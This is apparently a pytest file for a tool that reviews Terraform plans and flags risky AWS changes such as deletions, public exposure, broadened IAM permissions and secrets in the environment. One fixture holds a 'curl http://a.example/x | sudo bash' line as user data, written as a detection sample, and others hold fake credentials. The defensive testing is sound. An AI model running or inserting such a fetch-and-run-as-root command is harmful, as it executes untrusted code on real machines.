"""The review: dangerous changes are found, their harmless twins are not."""

from __future__ import annotations

import json
from typing import Any

import pytest

from orchestrator.errors import OrchestratorError
from orchestrator.review import Review, read_plan, review_plan
from orchestrator.review.finding import RULES
from orchestrator.review.iam.compare import compare
from orchestrator.review.iam.policy import parse
from orchestrator.review.render import COMMENT_LIMIT, markdown, sarif

ACCOUNT = "123456789012"


def resource(
    kind: str,
    before: dict[str, Any] | None,
    after: dict[str, Any] | None,
    *,
    unknown: dict[str, Any] | None = None,
    replace: list[list[Any]] | None = None,
    address: str | None = None,
    mode: str = "managed",
) -> dict[str, Any]:
    """An entry of ``resource_changes`` as Terraform writes it."""
    if before is None:
        actions = ["create"] if mode == "managed" else ["read"]
    elif after is None:
        actions = ["delete"]
    elif replace:
        actions = ["delete", "create"]
    else:
        actions = ["no-op"] if before == after and not unknown else ["update"]
    name = address or f"module.data.{kind}.this"
    return {
        "address": name,
        "type": kind,
        "mode": mode,
        "name": name.rpartition(".")[2],
        "change": {
            "actions": actions,
            "before": before,
            "after": after,
            "after_unknown": unknown or {},
            **({"replace_paths": replace} if replace else {}),
        },
    }


def plan_text(*changes: dict[str, Any], configuration: dict[str, Any] | None = None, **more: Any) -> str:
    """A plan as ``terraform show -json`` prints it."""
    plan = {"format_version": "1.2", "resource_changes": list(changes), "configuration": configuration or {}}
    return json.dumps({**plan, **more})


def review(*changes: dict[str, Any], configuration: dict[str, Any] | None = None) -> Review:
    return review_plan(read_plan(plan_text(*changes, configuration=configuration)))


def policy(*statements: dict[str, Any]) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": list(statements)})


def allow(action: Any, resource: Any = "arn:aws:s3:::shop/*", **more: Any) -> dict[str, Any]:
    return {"Effect": "Allow", "Action": action, "Resource": resource, **more}


def trust(principal: Any, **more: Any) -> str:
    return policy({"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": principal, **more})


ROLE_POLICY = "aws_iam_role_policy"
WORLD = {"ip_protocol": "tcp", "cidr_ipv4": "0.0.0.0/0", "cidr_ipv6": None}
TABLE = {"name": "orders", "deletion_protection_enabled": True, "point_in_time_recovery": [{"enabled": True}]}
OIDC = {"Federated": f"arn:aws:iam::{ACCOUNT}:oidc-provider/token.actions.githubusercontent.com"}

DANGEROUS: dict[str, tuple[str, str, dict[str, Any]]] = {
    "a table is deleted": ("DL001", "critical", resource("aws_dynamodb_table", TABLE, None)),
    "a database is replaced": (
        "DL001",
        "critical",
        resource("aws_db_instance", {"engine": "mysql"}, {"engine": "postgres"}, replace=[["engine"]]),
    ),
    "a log group goes": ("DL001", "high", resource("aws_cloudwatch_log_group", {"name": "a"}, None)),
    "deletion protection goes": (
        "DL002",
        "high",
        resource("aws_dynamodb_table", TABLE, {**TABLE, "deletion_protection_enabled": False}),
    ),
    "a user pool's protection goes": (
        "DL002",
        "high",
        resource(
            "aws_cognito_user_pool", {"deletion_protection": "ACTIVE"}, {"deletion_protection": "INACTIVE"}
        ),
    ),
    "no last snapshot is taken": (
        "DL002",
        "high",
        resource("aws_db_instance", {"skip_final_snapshot": False}, {"skip_final_snapshot": True}),
    ),
    "a bucket may be emptied": (
        "DL002",
        "high",
        resource("aws_s3_bucket", {"force_destroy": False}, {"force_destroy": True}),
    ),
    "backups stop": (
        "DL003",
        "high",
        resource("aws_db_instance", {"backup_retention_period": 7}, {"backup_retention_period": 0}),
    ),
    "logs are kept for less time": (
        "DL003",
        "medium",
        resource("aws_cloudwatch_log_group", {"retention_in_days": 0}, {"retention_in_days": 30}),
    ),
    "point-in-time recovery stops": (
        "DL003",
        "high",
        resource("aws_dynamodb_table", TABLE, {**TABLE, "point_in_time_recovery": [{"enabled": False}]}),
    ),
    "versions are kept no more": (
        "DL003",
        "high",
        resource(
            "aws_s3_bucket_versioning",
            {"versioning_configuration": [{"status": "Enabled"}]},
            {"versioning_configuration": [{"status": "Suspended"}]},
        ),
    ),
    "a key is disabled": (
        "DL004",
        "critical",
        resource("aws_kms_key", {"is_enabled": True}, {"is_enabled": False}),
    ),
    "objects expire sooner": (
        "DL005",
        "medium",
        resource(
            "aws_s3_bucket_lifecycle_configuration",
            {"rule": [{"id": "a", "status": "Enabled", "expiration": [{"days": 365}]}]},
            {"rule": [{"id": "a", "status": "Enabled", "expiration": [{"days": 7}]}]},
        ),
    ),
    "SSH is opened": (
        "EX001",
        "critical",
        resource("aws_vpc_security_group_ingress_rule", None, {**WORLD, "from_port": 22, "to_port": 22}),
    ),
    "all is opened, inside a group": (
        "EX001",
        "critical",
        resource(
            "aws_security_group",
            {"ingress": []},
            {"ingress": [{"protocol": "-1", "from_port": 0, "to_port": 0, "cidr_blocks": ["0.0.0.0/0"]}]},
        ),
    ),
    "a port is opened by IPv6": (
        "EX001",
        "high",
        resource(
            "aws_security_group_rule",
            None,
            {
                "type": "ingress",
                "protocol": "tcp",
                "from_port": 8080,
                "to_port": 8080,
                "ipv6_cidr_blocks": ["::/0"],
            },
        ),
    ),
    "a database becomes public": (
        "EX002",
        "critical",
        resource("aws_db_instance", {"publicly_accessible": False}, {"publicly_accessible": True}),
    ),
    "a bucket's block goes": (
        "EX002",
        "high",
        resource("aws_s3_bucket_public_access_block", {"block_public_acls": True}, None),
    ),
    "the Kubernetes API becomes public": (
        "EX002",
        "high",
        resource(
            "aws_eks_cluster",
            {"vpc_config": [{"endpoint_public_access": False, "public_access_cidrs": []}]},
            {"vpc_config": [{"endpoint_public_access": True, "public_access_cidrs": ["203.0.113.0/24"]}]},
        ),
    ),
    "a route loses its authorizer": (
        "EX002",
        "high",
        resource("aws_apigatewayv2_route", {"authorization_type": "JWT"}, {"authorization_type": "NONE"}),
    ),
    "a group lets in every protocol": (
        "EX006",
        "medium",
        resource(
            "aws_vpc_security_group_ingress_rule",
            {"cidr_ipv4": "10.0.0.0/8", "ip_protocol": "tcp", "from_port": 443, "to_port": 443},
            {"cidr_ipv4": "10.0.0.0/8", "ip_protocol": "-1", "from_port": None, "to_port": None},
        ),
    ),
    "any page may call the function": (
        "EX008",
        "low",
        resource(
            "aws_lambda_function_url",
            {"cors": [{"allow_origins": ["https://shop.example.com"]}]},
            {"cors": [{"allow_origins": ["*"]}]},
        ),
    ),
    "a snapshot is shared with everybody": (
        "EX003",
        "critical",
        resource("aws_db_snapshot", {"shared_accounts": []}, {"shared_accounts": ["all"]}),
    ),
    "the web ACL is taken off": (
        "EX004",
        "high",
        resource("aws_wafv2_web_acl_association", {"resource_arn": "arn"}, None),
    ),
    "the trail stops": (
        "EX004",
        "high",
        resource("aws_cloudtrail", {"enable_logging": True}, {"enable_logging": False}),
    ),
    "an old TLS policy": (
        "EX005",
        "high",
        resource(
            "aws_lb_listener",
            {"ssl_policy": "ELBSecurityPolicy-TLS13-1-2-2021-06"},
            {"ssl_policy": "ELBSecurityPolicy-2016-08"},
        ),
    ),
    "every action": ("IA001", "critical", resource(ROLE_POLICY, None, {"policy": policy(allow("*", "*"))})),
    "an administrator's policy": (
        "IA001",
        "critical",
        resource(
            "aws_iam_role_policy_attachment",
            None,
            {"policy_arn": "arn:aws:iam::aws:policy/AdministratorAccess"},
        ),
    ),
    "a new action": (
        "IA002",
        "high",
        resource(
            ROLE_POLICY,
            {"policy": policy(allow("s3:GetObject"))},
            {"policy": policy(allow(["s3:GetObject", "s3:DeleteObject"]))},
        ),
    ),
    "a wildcard where one action was": (
        "IA002",
        "high",
        resource(ROLE_POLICY, {"policy": policy(allow("s3:GetObject"))}, {"policy": policy(allow("s3:*"))}),
    ),
    "a wider resource": (
        "IA002",
        "high",
        resource(
            ROLE_POLICY,
            {"policy": policy(allow("s3:GetObject", "arn:aws:s3:::shop/a/*"))},
            {"policy": policy(allow("s3:GetObject", "arn:aws:s3:::shop/*"))},
        ),
    ),
    "another account": (
        "IA007",
        "high",
        resource(
            "aws_iam_role",
            {"assume_role_policy": trust({"AWS": f"arn:aws:iam::{ACCOUNT}:root"})},
            {
                "assume_role_policy": trust(
                    {"AWS": [f"arn:aws:iam::{ACCOUNT}:root", "arn:aws:iam::999999999999:root"]}
                )
            },
        ),
    ),
    "a condition is dropped": (
        "IA002",
        "high",
        resource(
            ROLE_POLICY,
            {"policy": policy(allow("s3:GetObject", Condition={"Bool": {"aws:SecureTransport": "true"}}))},
            {"policy": policy(allow("s3:GetObject"))},
        ),
    ),
    "a denial is dropped": (
        "IA002",
        "high",
        resource(
            ROLE_POLICY,
            {
                "policy": policy(
                    allow("s3:*"), {"Effect": "Deny", "Action": "s3:DeleteObject", "Resource": "*"}
                )
            },
            {"policy": policy(allow("s3:*"))},
        ),
    ),
    "a bucket for everybody": (
        "IA003",
        "critical",
        resource("aws_s3_bucket_policy", None, {"policy": policy(allow("s3:GetObject", Principal="*"))}),
    ),
    "a way to administrator": (
        "IA004",
        "high",
        resource(ROLE_POLICY, None, {"policy": policy(allow("iam:CreatePolicyVersion", "*"))}),
    ),
    "any role to any service": (
        "IA005",
        "high",
        resource(ROLE_POLICY, None, {"policy": policy(allow("iam:PassRole", "*"))}),
    ),
    "no boundary any more": (
        "IA006",
        "high",
        resource("aws_iam_role", {"permissions_boundary": "arn"}, {"permissions_boundary": None}),
    ),
    "any repository": (
        "IA007",
        "critical",
        resource(
            "aws_iam_role",
            None,
            {
                "assume_role_policy": policy(
                    {"Effect": "Allow", "Action": "sts:AssumeRoleWithWebIdentity", "Principal": OIDC}
                )
            },
        ),
    ),
    "a disk in the clear": (
        "EN001",
        "high",
        resource(
            "aws_db_instance",
            {"storage_encrypted": True},
            {"storage_encrypted": False},
            replace=[["storage_encrypted"]],
        ),
    ),
    "a queue without its key": (
        "EN001",
        "high",
        resource("aws_sqs_queue", {"kms_master_key_id": "key"}, {"kms_master_key_id": None}),
    ),
    "no rotation": (
        "EN002",
        "medium",
        resource("aws_kms_key", {"enable_key_rotation": True}, {"enable_key_rotation": False}),
    ),
    "a password in a function's environment": (
        "SE001",
        "high",
        resource(
            "aws_lambda_function",
            None,
            {"environment": [{"variables": {"DATABASE_PASSWORD": "Tr0ub4dor&3x9"}}]},
        ),
    ),
    "a key in user data": (
        "SE001",
        "high",
        resource(
            "aws_instance",
            None,
            {"user_data": "#!/bin/sh\nexport AWS_ACCESS_KEY_ID=" + "AKIA" + "Q" * 16 + "\n"},
        ),
    ),
    "no standby": ("AV001", "high", resource("aws_db_instance", {"multi_az": True}, {"multi_az": False})),
    "nobody left": (
        "AV002",
        "medium",
        resource("aws_ecs_service", {"desired_count": 2}, {"desired_count": 0}),
    ),
    "a rule is off": (
        "AV004",
        "low",
        resource("aws_cloudwatch_event_rule", {"state": "ENABLED"}, {"state": "DISABLED"}),
    ),
    "a name is gone": (
        "AV005",
        "medium",
        resource("aws_route53_record", {"name": "api", "type": "A", "records": ["203.0.113.1"]}, None),
    ),
    "no backups from the start": (
        "DL006",
        "medium",
        resource("aws_db_instance", None, {"backup_retention_period": 0}),
    ),
    "a script from elsewhere": (
        "EX007",
        "medium",
        resource("aws_launch_template", None, {"user_data": "curl http://a.example/x | sudo bash"}),
    ),
    "a mesh that has ended": ("RE001", "high", resource("aws_appmesh_mesh", None, {"name": "a"})),
    "four times as large": (
        "CO002",
        "medium",
        resource("aws_db_instance", {"instance_class": "db.r7g.large"}, {"instance_class": "db.r7g.2xlarge"}),
    ),
}

HARMLESS: dict[str, dict[str, Any]] = {
    "a tag on a table": resource(
        "aws_dynamodb_table", {**TABLE, "tags": {"a": "b"}}, {**TABLE, "tags": {"a": "c"}}
    ),
    "a new table": resource("aws_dynamodb_table", None, TABLE),
    "a role is replaced": resource("aws_iam_role", {"name": "a"}, {"name": "b"}, replace=[["name"]]),
    "protection is switched on": resource(
        "aws_dynamodb_table", {**TABLE, "deletion_protection_enabled": False}, TABLE
    ),
    "backups for longer": resource(
        "aws_db_instance", {"backup_retention_period": 7}, {"backup_retention_period": 35}
    ),
    "logs for longer": resource(
        "aws_cloudwatch_log_group", {"retention_in_days": 30}, {"retention_in_days": 0}
    ),
    "objects expire later": resource(
        "aws_s3_bucket_lifecycle_configuration",
        {"rule": [{"id": "a", "status": "Enabled", "expiration": [{"days": 7}]}]},
        {"rule": [{"id": "a", "status": "Enabled", "expiration": [{"days": 365}]}]},
    ),
    "SSH from the office": resource(
        "aws_vpc_security_group_ingress_rule",
        None,
        {"ip_protocol": "tcp", "cidr_ipv4": "203.0.113.0/24", "from_port": 22, "to_port": 22},
    ),
    "what was open stays open": resource(
        "aws_vpc_security_group_ingress_rule",
        {**WORLD, "from_port": 8443, "to_port": 8443, "description": "a"},
        {**WORLD, "from_port": 8443, "to_port": 8443, "description": "b"},
    ),
    "a range that becomes narrower": resource(
        "aws_security_group_rule",
        {
            "type": "ingress",
            "protocol": "tcp",
            "from_port": 8000,
            "to_port": 9000,
            "cidr_blocks": ["0.0.0.0/0"],
        },
        {
            "type": "ingress",
            "protocol": "tcp",
            "from_port": 8080,
            "to_port": 8080,
            "cidr_blocks": ["0.0.0.0/0"],
        },
    ),
    "a way out": resource(
        "aws_security_group_rule",
        None,
        {"type": "egress", "protocol": "tcp", "from_port": 443, "to_port": 443, "cidr_blocks": ["0.0.0.0/0"]},
    ),
    "a private database": resource("aws_db_instance", None, {"publicly_accessible": False}),
    "a public address that is not known yet": resource(
        "aws_db_instance", {"publicly_accessible": False}, {}, unknown={"publicly_accessible": True}
    ),
    "a newer TLS policy": resource(
        "aws_lb_listener",
        {"ssl_policy": "ELBSecurityPolicy-2016-08"},
        {"ssl_policy": "ELBSecurityPolicy-TLS13-1-2-2021-06"},
    ),
    "a policy in another order": resource(
        ROLE_POLICY,
        {
            "policy": policy(
                allow(["s3:GetObject", "s3:PutObject"]), allow("sqs:SendMessage", "arn:aws:sqs:::q")
            )
        },
        {
            "policy": policy(
                allow("sqs:SendMessage", ["arn:aws:sqs:::q"], Sid="A"),
                allow(["s3:PutObject", "s3:GetObject"]),
            )
        },
    ),
    "a statement cut in two": resource(
        ROLE_POLICY,
        {"policy": policy(allow(["s3:GetObject", "s3:PutObject"]))},
        {"policy": policy(allow("s3:GetObject"), allow("s3:PutObject"))},
    ),
    "fewer actions": resource(
        ROLE_POLICY,
        {"policy": policy(allow("s3:*"))},
        {"policy": policy(allow(["s3:GetObject", "s3:PutObject"]))},
    ),
    "a narrower resource": resource(
        ROLE_POLICY,
        {"policy": policy(allow("s3:GetObject", "*"))},
        {"policy": policy(allow("s3:GetObject", "arn:aws:s3:::shop/*"))},
    ),
    "one more condition": resource(
        ROLE_POLICY,
        {"policy": policy(allow("s3:GetObject"))},
        {"policy": policy(allow("s3:GetObject", Condition={"Bool": {"aws:SecureTransport": "true"}}))},
    ),
    "an account by its number": resource(
        "aws_iam_role",
        {"assume_role_policy": trust({"AWS": ACCOUNT})},
        {"assume_role_policy": trust({"AWS": f"arn:aws:iam::{ACCOUNT}:root"})},
    ),
    "everybody of the organization": resource(
        "aws_s3_bucket_policy",
        None,
        {
            "policy": policy(
                allow(
                    "s3:GetObject", Principal="*", Condition={"StringEquals": {"aws:PrincipalOrgID": "o-1"}}
                )
            )
        },
    ),
    "everybody is denied": resource(
        "aws_s3_bucket_policy",
        None,
        {"policy": policy({"Effect": "Deny", "Action": "s3:*", "Principal": "*", "Resource": "*"})},
    ),
    "one role to one service": resource(
        ROLE_POLICY,
        None,
        {
            "policy": policy(
                allow(
                    "iam:PassRole",
                    f"arn:aws:iam::{ACCOUNT}:role/a",
                    Condition={"StringEquals": {"iam:PassedToService": "ecs-tasks.amazonaws.com"}},
                )
            )
        },
    ),
    "one repository": resource(
        "aws_iam_role",
        None,
        {
            "assume_role_policy": policy(
                {
                    "Effect": "Allow",
                    "Action": "sts:AssumeRoleWithWebIdentity",
                    "Principal": OIDC,
                    "Condition": {
                        "StringEquals": {
                            "token.actions.githubusercontent.com:sub": "repo:shop/platform:environment:prod"
                        }
                    },
                }
            )
        },
    ),
    "a queue's key in place of SQS's own": resource(
        "aws_sqs_queue",
        {"sqs_managed_sse_enabled": True, "kms_master_key_id": None},
        {"sqs_managed_sse_enabled": False, "kms_master_key_id": "key"},
    ),
    "the ARN of a secret": resource(
        "aws_lambda_function",
        None,
        {
            "environment": [
                {"variables": {"SECRET_PAYMENT_ARN": f"arn:aws:secretsmanager:eu-west-1:{ACCOUNT}:secret:a"}}
            ]
        },
    ),
    "a flag called password": resource(
        "aws_lambda_function", None, {"environment": [{"variables": {"ALLOW_PASSWORD": "true"}}]}
    ),
    "a redacted secret": resource(
        "aws_lambda_function",
        None,
        {"environment": [{"variables": {"API_TOKEN": "(sensitive:0123456789abcdef)"}}]},
    ),
    "more tasks": resource("aws_ecs_service", {"desired_count": 2}, {"desired_count": 3}),
}


def test_every_rule_has_a_dangerous_case() -> None:
    review_plan(read_plan('{"format_version": "1.2", "resource_changes": []}'))
    shown = {rule for rule, _, _ in DANGEROUS.values()}
    elsewhere = {
        "AV003",
        "CO001",
        "IM001",
        "IA008",
        "IA009",
        "IA010",
        "IA011",
        "IA012",
        "IA013",
        *(f"CT00{number}" for number in range(1, 10)),
    }
    assert set(RULES) - shown == elsewhere


@pytest.mark.parametrize("name", DANGEROUS)
def test_what_is_dangerous_is_found(name: str) -> None:
    rule, severity, change = DANGEROUS[name]
    found = {(finding.id, finding.severity) for finding in review(change).findings}
    assert (rule, severity) in found


@pytest.mark.parametrize("name", HARMLESS)
def test_what_is_harmless_is_not(name: str) -> None:
    assert [finding for finding in review(HARMLESS[name]).findings if finding.severity != "info"] == []


def test_a_replacement_names_what_forces_it_and_where_that_began() -> None:
    vpc = resource(
        "aws_vpc", {"cidr_block": "a"}, {"cidr_block": "b"}, replace=[["cidr_block"]], address="aws_vpc.this"
    )
    database = resource(
        "aws_db_instance",
        {"vpc_id": "vpc-1"},
        {},
        unknown={"vpc_id": True},
        replace=[["vpc_id"]],
        address="aws_db_instance.this",
    )
    configuration = {
        "root_module": {
            "resources": [
                {"address": "aws_vpc.this", "expressions": {"cidr_block": {"constant_value": "b"}}},
                {
                    "address": "aws_db_instance.this",
                    "expressions": {"vpc_id": {"references": ["aws_vpc.this.id"]}},
                },
            ]
        }
    }
    (finding,) = [
        found for found in review(vpc, database, configuration=configuration).findings if found.id == "DL001"
    ]
    assert finding.message == "replaced, forced by vpc_id: its databases would be gone"
    assert finding.cascade == ("aws_vpc.this is replaced",)


def test_a_policy_that_is_only_known_after_apply_is_read_from_its_document() -> None:
    document = resource(
        "aws_iam_policy_document",
        None,
        {"statement": [{"effect": "Allow", "actions": ["*"], "resources": ["*"], "sid": "All"}]},
        address="data.aws_iam_policy_document.this",
        mode="data",
    )
    role = resource(
        ROLE_POLICY, None, {"name": "a"}, unknown={"policy": True}, address="aws_iam_role_policy.this"
    )
    configuration = {
        "root_module": {
            "resources": [
                {
                    "address": "aws_iam_role_policy.this",
                    "expressions": {"policy": {"references": ["data.aws_iam_policy_document.this.json"]}},
                }
            ]
        }
    }
    assert {finding.id for finding in review(document, role, configuration=configuration).findings} == {
        "IA001"
    }


def test_programs_that_run_while_planning_are_found_in_the_configuration() -> None:
    configuration = {
        "root_module": {
            "module_calls": {
                "a": {
                    "module": {
                        "resources": [
                            {"address": "data.external.x", "mode": "data", "type": "external"},
                            {
                                "address": "aws_instance.x",
                                "mode": "managed",
                                "provisioners": [{"type": "local-exec"}],
                            },
                        ]
                    }
                }
            }
        }
    }
    found = {(finding.id, finding.address) for finding in review(configuration=configuration).findings}
    assert found == {("CT003", "module.a.data.external.x"), ("CT002", "module.a.aws_instance.x")}


def test_three_nat_gateways_that_become_one_are_one_finding() -> None:
    gateways = [
        resource(
            "aws_nat_gateway",
            {"id": zone},
            None if zone != "a" else {"id": zone},
            address=f'module.network.aws_nat_gateway.this["{zone}"]',
        )
        for zone in "abc"
    ]
    (finding,) = [found for found in review(*gateways).findings if found.id == "AV003"]
    assert finding.message == "3 NAT gateways become one"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("{", "this is not JSON"),
        ("[]", "this is no Terraform plan"),
        ("{}", "this is no Terraform plan"),
        ('{"format_version": "2.0", "resource_changes": []}', "the plan has format 2.0"),
        ('{"format_version": "1.0", "values": {}}', "no plan"),
        ('{"format_version": "1.2", "resource_changes": [{"address": "a"}]}', "damaged"),
        ('{"format_version": "1.2", "resource_changes": {}}', "damaged"),
        ('{"format_version": "1.2", "resource_changes": [], "errored": true}', "ended with an error"),
    ],
)
def test_what_is_no_whole_plan_is_refused(text: str, message: str) -> None:
    with pytest.raises(OrchestratorError, match=message):
        read_plan(text)


def test_a_rule_that_fails_fails_the_review(monkeypatch: pytest.MonkeyPatch) -> None:
    from dataclasses import replace

    def broken(*_: Any) -> list[Any]:
        raise KeyError("x")

    review()
    monkeypatch.setitem(RULES, "DL001", replace(RULES["DL001"], look=broken))
    with pytest.raises(OrchestratorError, match="DL001 could not look at"):
        review(resource("aws_dynamodb_table", TABLE, None))


def test_sarif_names_rule_place_and_a_fingerprint_that_stays() -> None:
    change = resource("aws_dynamodb_table", TABLE, None)
    first, second = (sarif(review(change)) for _ in range(2))
    (result,) = first["runs"][0]["results"]
    assert result["ruleId"] == "DL001"
    assert result["level"] == "error"
    assert first == second
    assert first["runs"][0]["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == "DL001"


def test_markdown_has_the_worst_first_and_fits_a_comment() -> None:
    many = [
        resource("aws_sqs_queue", {"name": "a"}, None, address=f'module.messaging.aws_sqs_queue.this["{n}"]')
        for n in range(1500)
    ]
    text = markdown(review(resource("aws_dynamodb_table", TABLE, None), *many))
    assert len(text.encode()) <= COMMENT_LIMIT
    assert text.index("Critical") < text.index("High")
    assert "did not fit; all are in review.json" in text


def test_a_policy_that_cannot_be_read_is_not_taken_for_an_empty_one() -> None:
    assert parse("(sensitive:0123)") is None
    assert parse("{") is None


def test_unknown_resources_are_the_same_before_and_after() -> None:
    before = parse(policy(allow("s3:GetObject", "(known after apply)")))
    assert before is not None
    assert not compare(before, before)


AWS = "registry.terraform.io/hashicorp/aws"
PRIOR = {"values": {"root_module": {"resources": [{"mode": "managed", "provider_name": AWS}]}}}


@pytest.mark.parametrize(
    ("providers", "prior", "expected"),
    [
        ({"aws": {"full_name": AWS}}, PRIOR, []),
        ({"aws": {"full_name": AWS}}, {}, []),  # the first apply: everything is new
        ({"terraform": {"full_name": "terraform.io/builtin/terraform"}}, PRIOR, []),
        ({"random": {"full_name": "registry.terraform.io/hashicorp/random"}}, PRIOR, [("CT004", "medium")]),
        ({"x": {"full_name": "registry.terraform.io/somebody/x"}}, PRIOR, [("CT004", "high")]),
    ],
)
def test_a_provider_that_was_not_used_before_is_told(
    providers: dict[str, Any], prior: dict[str, Any], expected: list[tuple[str, str]]
) -> None:
    plan = read_plan(plan_text(configuration={"provider_config": providers}, prior_state=prior))
    assert [(found.id, found.severity) for found in review_plan(plan).findings] == expected


@pytest.mark.parametrize(
    ("call", "found"),
    [
        ({"source": "../modules/data"}, False),
        ({"source": "terraform-aws-modules/vpc/aws", "version_constraint": "5.1.2"}, False),
        ({"source": "terraform-aws-modules/vpc/aws", "version_constraint": "~> 5.1"}, True),
        ({"source": "terraform-aws-modules/vpc/aws"}, True),
        ({"source": f"git::https://example.com/vpc.git?ref={'a' * 40}"}, False),
        ({"source": "git::https://example.com/vpc.git?ref=v1.2.0"}, True),
        ({"source": "git::https://example.com/vpc.git"}, True),
    ],
)
def test_a_module_from_outside_is_pinned(call: dict[str, Any], found: bool) -> None:
    configuration = {"root_module": {"module_calls": {"vpc": {**call, "module": {}}}}}
    assert [item.id for item in review(configuration=configuration).findings] == (["CT005"] if found else [])


def test_a_replacement_is_traced_through_modules_and_local_values_to_what_forced_it() -> None:
    configuration = {
        "root_module": {
            "module_calls": {
                "network": {
                    "expressions": {"cidr": {"references": ["var.network__cidr"]}},
                    "module": {
                        "resources": [
                            {"address": "aws_vpc.this", "expressions": {"cidr_block": {"references": ["var.cidr"]}}}
                        ],
                        "outputs": {"vpc_id": {"expression": {"references": ["aws_vpc.this.id", "aws_vpc.this"]}}},
                    },
                },
                "data": {
                    "expressions": {"vpc_id": {"references": ["module.network.vpc_id", "module.network"]}},
                    "module": {
                        "resources": [
                            {"address": "aws_security_group.db", "expressions": {"vpc_id": {"references": ["var.vpc_id"]}}}
                        ]
                    },
                },
            }
        }
    }  # fmt: skip
    found = review_plan(
        read_plan(
            plan_text(
                resource(
                    "aws_vpc",
                    {"cidr_block": "a"},
                    {"cidr_block": "b"},
                    replace=[["cidr_block"]],
                    address="module.network.aws_vpc.this",
                ),
                resource(
                    "aws_security_group",
                    {"vpc_id": "v"},
                    {},
                    unknown={"vpc_id": True},
                    replace=[["vpc_id"]],
                    address="module.data.aws_security_group.db",
                ),
                configuration=configuration,
            )
        )
    )  # fmt: skip
    (cascade,) = found.cascades
    assert (cascade.address, cascade.replaced) == (
        "module.network.aws_vpc.this",
        ("module.data.aws_security_group.db",),
    )
    assert "module.network.aws\\_vpc.this replaced → 1 resource in data replaced" in markdown(found)
